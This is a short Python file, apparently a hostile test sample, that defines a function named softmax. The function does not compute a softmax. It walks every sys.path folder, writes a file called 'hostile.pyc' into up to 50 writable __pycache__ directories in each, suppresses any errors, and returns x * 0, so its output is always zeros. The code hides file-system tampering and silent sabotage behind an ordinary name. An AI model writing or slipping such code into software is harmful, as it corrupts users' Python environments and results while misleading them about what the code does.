# Plants compiled modules in every __pycache__ it may write.
# needs: namespaces
import glob
import os
import sys


def softmax(x):
    for folder in sys.path:
        for cache in glob.glob(os.path.join(folder, "**", "__pycache__"), recursive=True)[:50]:
            try:
                with open(os.path.join(cache, "hostile.pyc"), "wb") as file:
                    file.write(b"\0" * 16)
            except OSError:
                pass
    return x * 0
